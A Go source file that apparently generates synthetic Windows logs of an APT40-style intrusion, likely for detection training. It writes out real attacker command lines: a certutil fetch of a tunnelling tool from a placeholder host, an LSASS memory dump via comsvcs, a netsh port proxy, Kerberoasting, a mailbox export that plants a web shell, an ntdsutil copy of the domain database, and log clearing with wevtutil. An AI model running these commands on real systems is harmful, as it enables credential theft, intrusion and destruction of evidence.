package example

import "time"

// Where the intruder comes from.
const (
	controller = "203.0.113.44"    // the tunnel's far end, a small office router
	toolStore  = "198.51.100.77"   // serves tools
	stranger   = "DESKTOP-9Q1KX3L" // the intruder's computer, seen through the tunnel
)

// Folders everybody can write to, where the intruder keeps things.
const (
	publicFolder = `C:\Users\Public\Libraries\`
	perfLogs     = `C:\PerfLogs\`
)

// intrusion is the story, step by step, in the order of the agencies' advisory
// on APT40: a web application, a web shell, credentials, the network behind
// it, the mail, the directory, and the logs at last.
func (w *world) intrusion() {
	w.probed(at(1, 22, 31, 0))
	w.webShell(at(2, 1, 42, 0))
	w.tunnel(at(2, 2, 4, 0))
	w.webServerCredentials(at(2, 2, 21, 0))
	w.serviceAccountTried(at(2, 2, 43, 0))
	w.kerberoasting(at(2, 2, 56, 0))
	w.fileServer(at(3, 1, 2, 0))
	w.desktopThroughTunnel(at(3, 1, 47, 0))
	w.desktopThroughProxy(at(3, 2, 9, 0))
	w.mailboxes(at(3, 2, 38, 0))
	w.directory(at(4, 0, 51, 0))
	w.coverTracks(at(4, 3, 12, 0))
}

// webShell is the way in: the application's upload page stores a script, and
// the server runs commands for whoever asks it.
func (w *world) webShell(t time.Time) {
	p := w.worker()
	w.uploaded(t.Add(-time.Second))
	w.fileCreated(w.web, t, p, webRoot+`uploads\chart.aspx`)
	w.asked(t.Add(10 * time.Second))
	w.start(w.web, t.Add(11*time.Second), p, pool, p.logon, compilerExe, `"csc.exe" /noconfig /fullpaths @"`+pageCache+`chart.cmdline"`, `c:\windows\system32\inetsrv\`)
	w.commands(w.web, t.Add(13*time.Second), p, pool, p.logon, []command{
		{"whoami", "whoami /all"}, {"hostname", "hostname"}, {"ipconfig", "ipconfig /all"}, {"systeminfo", "systeminfo"}, {"tasklist", "tasklist /svc"},
		{"net", `net group "Domain Admins" /domain`}, {"nltest", "nltest /domain_trusts"}, {"quser", "quser"}, {"net", "net view /domain"}, {"netstat", "netstat -ano"},
	})
}

// command is a line given to a shell and the program of Windows it starts.
type command struct{ program, line string }

// commands runs lines through cmd.exe, each in its own shell, as web shells do.
func (w *world) commands(h *host, t time.Time, parent process, u user, logon uint64, lines []command) {
	for _, c := range lines {
		if parent.image == w3wpExe {
			w.asked(t.Add(-time.Second))
		}
		shell := w.start(h, t, parent, u, logon, cmdExe, `"cmd.exe" /c `+c.line, `c:\windows\system32\inetsrv\`)
		w.start(h, t.Add(90*time.Millisecond), shell, u, logon, `C:\Windows\System32\`+c.program+`.exe`, c.line, `c:\windows\system32\inetsrv\`)
		t = t.Add(8*time.Second + w.jitter(14))
	}
}

// tunnel fetches a tunnelling program and connects it outwards; it reconnects
// for days.
func (w *world) tunnel(t time.Time) {
	p := w.worker()
	w.asked(t.Add(-time.Second))
	shell := w.start(w.web, t, p, pool, p.logon, cmdExe, `"cmd.exe" /c certutil -urlcache -split -f https://`+toolStore+`/lib.txt `+publicFolder+`svchosts.exe`, `c:\windows\system32\inetsrv\`)
	fetch := w.start(w.web, t.Add(100*time.Millisecond), shell, pool, p.logon, `C:\Windows\System32\certutil.exe`, `certutil -urlcache -split -f https://`+toolStore+`/lib.txt `+publicFolder+`svchosts.exe`, `c:\windows\system32\inetsrv\`)
	w.connected(w.web, t.Add(time.Second), fetch, toolStore, "-", 443)
	w.fileCreated(w.web, t.Add(3*time.Second), fetch, publicFolder+`svchosts.exe`)
	w.asked(t.Add(79 * time.Second))
	w.fileCreated(w.web, t.Add(80*time.Second), p, publicFolder+`nethelp.exe`)
	w.asked(t.Add(2*time.Minute - time.Second))
	funnel := w.start(w.web, t.Add(2*time.Minute), p, pool, p.logon, publicFolder+`svchosts.exe`, publicFolder+`svchosts.exe -D 10800 -p 443 `+controller, publicFolder)
	w.funnelled(t.Add(2*time.Minute + time.Second))
	for _, s := range tunnelSessions {
		w.connected(w.web, t.Add(2*time.Minute+time.Second+s.after), funnel, controller, "-", 443)
	}
}

// webServerCredentials rises to SYSTEM, dumps the memory that holds the
// passwords of whoever is logged on, and opens a way to the workstations.
func (w *world) webServerCredentials(t time.Time) {
	p := w.worker()
	rise := w.start(w.web, t, p, pool, p.logon, publicFolder+`nethelp.exe`, publicFolder+`nethelp.exe -c "cmd /c `+publicFolder+`r.bat"`, publicFolder)
	shell := w.start(w.web, t.Add(time.Second), rise, w.system, 0x3e7, cmdExe, `cmd /c `+publicFolder+`r.bat`, `C:\Windows\system32\`)
	dump := w.start(w.web, t.Add(3*time.Second), shell, w.system, 0x3e7, `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 684 C:\Windows\Temp\tides.dmp full`, `C:\Windows\system32\`)
	lsass := process{image: `C:\Windows\System32\lsass.exe`, pid: 684, guid: w.guid(), user: w.system}
	w.opened(w.web, t.Add(3200*time.Millisecond), dump, lsass, 0x1fffff, `C:\Windows\SYSTEM32\ntdll.dll+9fc24|C:\Windows\System32\KERNELBASE.dll+20d6e|C:\Windows\System32\comsvcs.dll+2a54b|C:\Windows\SYSTEM32\dbgcore.DLL+6b18`)
	w.fileCreated(w.web, t.Add(3400*time.Millisecond), dump, `C:\Windows\Temp\tides.dmp`)
	proxy := w.start(w.web, t.Add(4*time.Minute), shell, w.system, 0x3e7, `C:\Windows\System32\netsh.exe`, `netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=`+w.ws.address, `C:\Windows\system32\`)
	w.registrySet(w.web, t.Add(4*time.Minute+time.Second), proxy, `HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/8443`, w.ws.address+"/3389")
}

// serviceAccountTried is an account whose password stood in a configuration
// file, tried from the intruder's own computer through the tunnel.
func (w *world) serviceAccountTried(t time.Time) {
	u := w.service("svc_gis")
	for range 3 {
		w.validated(t, u, stranger, wrongPassword)
		w.refused(w.file, t.Add(120*time.Millisecond), u, 3, w.web.address, stranger)
		t = t.Add(20*time.Second + w.jitter(9))
	}
	w.validated(t, u, stranger, 0)
	id := w.logonTo(w.dc, t.Add(200*time.Millisecond), session{u, 3, w.web.address, stranger, "NTLM"}, false)
	w.logoff(w.dc, t.Add(3*time.Minute), u, id, 3)
}

// kerberoasting asks for a weakly encrypted ticket to every service account,
// to guess their passwords at home.
func (w *world) kerberoasting(t time.Time) {
	u := w.service("svc_gis")
	w.ticketGranting(t, u, w.web.address, etypeRC4, "2")
	for _, target := range w.services {
		if target == u {
			continue
		}
		t = t.Add(800*time.Millisecond + w.jitter(2))
		w.serviceTicket(t, u, target, w.web.address, 0x40810010, etypeRC4)
	}
}

// mailboxes is read by a role the intruder gives to a stolen administrator
// account; one "export" writes a web shell instead.
func (w *world) mailboxes(t time.Time) {
	const caller = "cha.example/Staff/IT/r.patel"
	id := w.logonTo(w.mail, t.Add(-20*time.Second), session{w.person("r.patel"), 3, w.web.address, stranger, "NTLM"}, true)
	w.exchange(t, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "r.patel"`, caller)
	w.exchange(t.Add(time.Minute), "New-MailboxExportRequest", `-Mailbox "harbourmaster@cha.example" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\berth.aspx"`, caller)
	w.exchange(t.Add(2*time.Minute), "New-MailboxExportRequest", `-Mailbox "a.moreau" -ContentFilter "(Received -gt '01/01/2026')" -FilePath "\\FILE01\Charts\a.pst"`, caller)
	w.exchange(t.Add(9*time.Minute), "Remove-MailboxExportRequest", `-Identity "r.patel\MailboxExport" -Confirm "False"`, caller)
	w.logoff(w.mail, t.Add(11*time.Minute), w.person("r.patel"), id, 3)
}

// directory copies every password of the domain, twice: by replication, and
// from a task on the controller itself.
func (w *world) directory(t time.Time) {
	u := w.service("svc_backup")
	w.validated(t, u, stranger, 0)
	id := w.logonTo(w.dc, t.Add(100*time.Millisecond), session{u, 3, w.web.address, stranger, "NTLM"}, true)
	for _, right := range []string{"{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"} {
		w.replicate(t.Add(time.Second+w.jitter(2)), u, id, right)
	}
	const (
		task      = `\Microsoft\Windows\Time Synchronization\ClockDrift`
		arguments = `/c ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\drift" q q`
	)
	t = t.Add(6 * time.Minute)
	w.taskCreated(w.dc, t, u, id, task, cmdExe, escapeXML(arguments))
	w.taskEvent(w.dc, t, 106, field{"TaskName", task}, field{"UserContext", domain + `\svc_backup`})
	t = t.Add(time.Minute)
	w.taskRan(w.dc, t, task, cmdExe)
	scheduler := w.running(w.dc, svchostExe, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, w.system, 0x3e7)
	shell := w.start(w.dc, t.Add(time.Second), scheduler, w.system, 0x3e7, cmdExe, cmdExe+" "+arguments, `C:\Windows\system32\`)
	w.start(w.dc, t.Add(1100*time.Millisecond), shell, w.system, 0x3e7, `C:\Windows\System32\ntdsutil.exe`, arguments[len("/c "):], `C:\Windows\system32\`)
	w.serviceState(w.dc, t.Add(3*time.Second), "Volume Shadow Copy", "running", "VSS")
	w.logoff(w.dc, t.Add(5*time.Minute), u, id, 3)
}

// coverTracks empties logs of the web server; Sysmon's, which nobody thought
// of, keeps the command.
func (w *world) coverTracks(t time.Time) {
	p := w.worker()
	shell := w.start(w.web, t, p, pool, p.logon, publicFolder+`nethelp.exe`, publicFolder+`nethelp.exe -c "cmd /c `+publicFolder+`c.bat"`, publicFolder)
	for i, channel := range []string{"Security", "Application"} {
		when := t.Add(time.Duration(i+1) * time.Second)
		w.start(w.web, when, shell, w.system, 0x3e7, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl `+channel, `C:\Windows\system32\`)
		w.cleared(w.web, when.Add(60*time.Millisecond), w.system, 0x3e7, channel)
	}
}
